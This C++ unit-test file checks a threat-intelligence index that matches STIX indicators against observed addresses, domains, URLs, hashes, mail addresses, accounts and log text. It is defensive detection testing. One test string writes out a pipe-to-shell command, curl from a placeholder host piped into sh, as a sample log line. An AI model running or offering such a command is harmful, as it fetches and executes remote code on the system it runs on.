#include "hunting/threat_intelligence/observable_keys.h"

#include <gmock/gmock.h>

#include "catalog/catalog.h"
#include "hunting/threat_intelligence/indicator_index.h"

namespace harrier::hunting {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::IsEmpty;
using testing::UnorderedElementsAre;

SoughtPtr Sought(const std::string& name, const std::string& pattern) {
  Indicator indicator;
  indicator.pattern = pattern;
  return SoughtOf(indicator, {"w", "k", "", name}, "id", 0);
}

/// The names of the indicators that fit a value.
class Fitting {
 public:
  Fitting(std::initializer_list<std::pair<const char*, const char*>> indicators) {
    for (const auto& [name, pattern] : indicators) {
      const SoughtPtr sought = Sought(name, pattern);
      EXPECT_NE(sought, nullptr) << pattern;
      if (sought) index_.Put(sought);
    }
  }
  std::vector<std::string> operator()(ObservedKind kind, std::string_view value) const {
    std::vector<SoughtPtr> found;
    index_.Look(kind, value, found);
    std::vector<std::string> names;
    for (const SoughtPtr& one : found) names.push_back(one->name);
    return names;
  }
  IndicatorIndex& index() { return index_; }

 private:
  IndicatorIndex index_;
};

TEST(ObservedTables, AreTablesOfTheCatalogue) {
  const catalog::Catalog catalog = catalog::Catalog::BuiltIn();
  EXPECT_GE(ObservedTables().size(), 40U);
  for (const ObservedTable& observed : ObservedTables()) {
    const catalog::TablePtr table = catalog.FindTable(observed.name);
    ASSERT_NE(table, nullptr) << observed.name;
    EXPECT_FALSE(observed.columns.empty()) << observed.name;
    for (const ObservedColumn& column : observed.columns) {
      const catalog::TableColumn* const found = table->Find(column.name);
      ASSERT_NE(found, nullptr) << observed.name << " " << column.name;
      EXPECT_TRUE(found->type == Type::kString || found->type == Type::kDynamic) << column.name;
    }
  }
}

TEST(ObservedTables, TakeOneFormOnly) {
  const auto tables = ParseObservedTables("# note\nT:\n  A: ip\n  B: url\n\nU:\n  C: text\n");
  ASSERT_TRUE(tables.has_value());
  ASSERT_EQ(tables->size(), 2U);
  EXPECT_EQ((*tables)[0].columns[1].name, "B");
  EXPECT_EQ((*tables)[0].columns[1].kind, ObservedKind::kUrl);
  for (const char* bad : {"T\n", "T: x\n", "  A: ip\n", "T:\n  A: address\n", "T:\n A: ip\n", "T:\n  A:ip\n"})
    EXPECT_EQ(ParseObservedTables(bad), std::nullopt) << bad;
}

TEST(ObservableKeys, AddressesFitInAnySpelling) {
  const Fitting fitting{{"four", "[ipv4-addr:value = '203.0.113.9']"},
                        {"range", "[ipv4-addr:value = '198.51.100.0/24']"},
                        {"subset", "[ipv4-addr:value ISSUBSET '198.51.0.0/16']"},
                        {"six", "[ipv6-addr:value = '2001:db8::1']"},
                        {"six range", "[ipv6-addr:value = '2001:DB8:5::/48']"}};
  const auto ip = [&](std::string_view value) { return fitting(ObservedKind::kIp, value); };
  EXPECT_THAT(ip("203.0.113.9"), ElementsAre("four"));
  EXPECT_THAT(ip("203.0.113.9:443"), ElementsAre("four"));
  EXPECT_THAT(ip("::ffff:203.0.113.9"), ElementsAre("four"));
  EXPECT_THAT(ip("203.0.113.90"), IsEmpty());
  EXPECT_THAT(ip("198.51.100.255"), UnorderedElementsAre("range", "subset"));
  EXPECT_THAT(ip("198.51.101.0"), ElementsAre("subset"));
  EXPECT_THAT(ip("2001:0db8:0:0:0:0:0:1"), ElementsAre("six"));
  EXPECT_THAT(ip("[2001:db8::1]:80"), ElementsAre("six"));
  EXPECT_THAT(ip("2001:db8:5:ffff::"), ElementsAre("six range"));
  EXPECT_THAT(ip("2001:db8:6::"), IsEmpty());
  EXPECT_THAT(ip("not an address"), IsEmpty());
  EXPECT_THAT(ip(""), IsEmpty());
}

TEST(ObservableKeys, DomainsFitThoseBelow) {
  const Fitting fitting{{"evil", "[domain-name:value = 'Evil.Example']"},
                        {"top", "[domain-name:value = 'zip']"},
                        {"url", "[url:value = 'HTTP://Bad.Example:80/a/B?q=1#part']"},
                        {"address", "[ipv4-addr:value = '203.0.113.9']"}};
  EXPECT_THAT(fitting(ObservedKind::kDomain, "evil.example"), ElementsAre("evil"));
  EXPECT_THAT(fitting(ObservedKind::kDomain, "a.b.EVIL.example."), ElementsAre("evil"));
  EXPECT_THAT(fitting(ObservedKind::kDomain, "notevil.example"), IsEmpty());
  EXPECT_THAT(fitting(ObservedKind::kDomain, "evil.example.org"), IsEmpty());
  EXPECT_THAT(fitting(ObservedKind::kDomain, "files.zip"), IsEmpty());
  EXPECT_THAT(fitting(ObservedKind::kDomain, "zip"), ElementsAre("top"));
  EXPECT_THAT(fitting(ObservedKind::kUrl, "https://www.evil.example:8443/x"), ElementsAre("evil"));
  EXPECT_THAT(fitting(ObservedKind::kUrl, "http://bad.example/a/B?q=1"), ElementsAre("url"));
  EXPECT_THAT(fitting(ObservedKind::kUrl, "bad.example/a/B?q=1"), ElementsAre("url"));
  EXPECT_THAT(fitting(ObservedKind::kUrl, "http://bad.example/a/b?q=1"), IsEmpty());
  EXPECT_THAT(fitting(ObservedKind::kUrl, "http://user@203.0.113.9:80/"), ElementsAre("address"));
}

TEST(ObservableKeys, HashesMailAndAccountsFitWithoutCase) {
  const std::string md5(32, 'A'), sha256(64, 'b');
  const std::string pattern = fmt::format("[file:hashes.'SHA-256' = '{}']", sha256);
  const std::string other = fmt::format("[file:hashes.MD5 = '{}']", md5);
  const Fitting fitting{{"sha", pattern.c_str()},
                        {"md5", other.c_str()},
                        {"mail", "[email-addr:value = 'Mallory@evil.example']"},
                        {"login", "[user-account:account_login = 'svc-backup']"}};
  EXPECT_THAT(fitting(ObservedKind::kHash, std::string(64, 'B')), ElementsAre("sha"));
  EXPECT_THAT(fitting(ObservedKind::kHash, std::string(32, 'a')), ElementsAre("md5"));
  EXPECT_THAT(fitting(ObservedKind::kHash, std::string(31, 'a')), IsEmpty());
  EXPECT_THAT(fitting(ObservedKind::kEmail, "mallory@EVIL.example"), ElementsAre("mail"));
  EXPECT_THAT(fitting(ObservedKind::kAccount, "CONTOSO\\svc-backup"), ElementsAre("login"));
  EXPECT_THAT(fitting(ObservedKind::kAccount, "svc-backup2"), IsEmpty());
}

TEST(ObservableKeys, TextsAreSearched) {
  const std::string hash(40, 'c');
  const std::string pattern = fmt::format("[file:hashes.'SHA-1' = '{}']", hash);
  const Fitting fitting{{"four", "[ipv4-addr:value = '203.0.113.9']"},
                        {"six", "[ipv6-addr:value = '2001:db8::1']"},
                        {"domain", "[domain-name:value = 'evil.example']"},
                        {"url", "[url:value = 'http://other.example/x']"},
                        {"mail", "[email-addr:value = 'mallory@evil2.example']"},
                        {"hash", pattern.c_str()}};
  const auto text = [&](std::string_view value) { return fitting(ObservedKind::kText, value); };
  EXPECT_THAT(text("Failed password for root from 203.0.113.9 port 22"), ElementsAre("four"));
  EXPECT_THAT(text("src=203.0.113.9, dst=10.0.0.1"), ElementsAre("four"));
  EXPECT_THAT(text("connect (203.0.113.9:4444)."), ElementsAre("four"));
  EXPECT_THAT(text("from 2001:db8::1, denied"), ElementsAre("six"));
  EXPECT_THAT(text("[\"10.0.0.1\",\"203.0.113.9\"]"), ElementsAre("four"));
  EXPECT_THAT(text("query[A] cdn.evil.example from 10.0.0.3"), ElementsAre("domain"));
  EXPECT_THAT(text("curl -s http://other.example/x | sh"), ElementsAre("url"));
  EXPECT_THAT(text("uri=http://evil.example/a"), ElementsAre("domain"));
  EXPECT_THAT(text("from=<mallory@evil2.example>, size=1"), ElementsAre("mail"));
  EXPECT_THAT(text("SHA1=" + hash + ",MD5=0"), ElementsAre("hash"));
  EXPECT_THAT(text("203.0.113.90 1203.0.113.9 evil.examples"), IsEmpty());
}

TEST(ObservableKeys, OtherPatternsAreNotSought) {
  for (const char* pattern : {"[windows-registry-key:key = 'HKLM']", "[ipv4-addr:value = 'x']",
                              "[ipv4-addr:value = '1.2.3.4/33']", "[file:hashes.MD5 = 'short']",
                              "[ipv4-addr:value = '1.1.1.1' OR ipv4-addr:value = '2.2.2.2']", "nonsense"})
    EXPECT_EQ(Sought("x", pattern), nullptr) << pattern;
  Indicator revoked;
  revoked.pattern = "[ipv4-addr:value = '203.0.113.9']";
  revoked.revoked = true;
  EXPECT_EQ(SoughtOf(revoked, {}, "id", 0), nullptr);
}

TEST(IndicatorIndex, KeepsTheLatestOfAName) {
  Fitting fitting{{"a", "[ipv4-addr:value = '203.0.113.9']"}, {"b", "[ipv4-addr:value = '203.0.113.0/24']"}};
  fitting.index().Put(Sought("A", "[domain-name:value = 'evil.example']"));
  EXPECT_THAT(fitting(ObservedKind::kIp, "203.0.113.9"), ElementsAre("b"));
  EXPECT_THAT(fitting(ObservedKind::kDomain, "evil.example"), ElementsAre("A"));
  fitting.index().Remove("B");
  EXPECT_THAT(fitting(ObservedKind::kIp, "203.0.113.9"), IsEmpty());
  EXPECT_EQ(fitting.index().size(), 1U);
}

TEST(SoughtAnew, IfThePatternOrItsValidityIsNew) {
  Indicator before, after;
  before.pattern = after.pattern = "p";
  EXPECT_TRUE(IsSoughtAnew(nullptr, 0, after, 10));
  EXPECT_FALSE(IsSoughtAnew(&before, 10, after, 10));
  before.revoked = true;
  EXPECT_TRUE(IsSoughtAnew(&before, 10, after, 10));
  before.revoked = false;
  before.valid_until = Moment{5};
  EXPECT_TRUE(IsSoughtAnew(&before, 10, after, 10));
  after.valid_until = Moment{10};
  EXPECT_FALSE(IsSoughtAnew(&before, 10, after, 10));
  after.valid_until.reset();
  after.valid_from = Moment{11};
  EXPECT_FALSE(IsSoughtAnew(nullptr, 0, after, 10));
}

}  // namespace
}  // namespace harrier::hunting
